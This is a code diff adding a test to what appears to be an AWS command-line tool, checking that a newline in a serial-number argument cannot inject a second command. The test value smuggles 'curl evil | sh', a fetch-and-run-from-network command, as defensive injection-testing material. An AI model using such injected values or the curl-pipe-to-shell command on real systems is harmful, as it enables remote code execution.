@@ -279,6 +279,13 @@ def put(product: Product, place: str, serial: str) -> tuple[str, ...]:
     return (place, serial) if place == "--serial-number" else ()
 
 
+def test_a_line_break_in_a_device_makes_no_command_of_the_rest(product: Product) -> None:
+    serial = "arn:aws:iam::123456789012:user/a\ncurl evil | sh"
+    done = product.run("--shell", "bash", "--no-input", "--serial-number", serial)
+    assert done.status == 2
+    assert [line for line in done.err.splitlines() if line.strip().startswith("curl")] == []
+
+
 def test_a_hardware_token_has_a_number_and_aws_tells_its_account(
     product: Product, aws: ObservedAws, locked: User
 ) -> None:
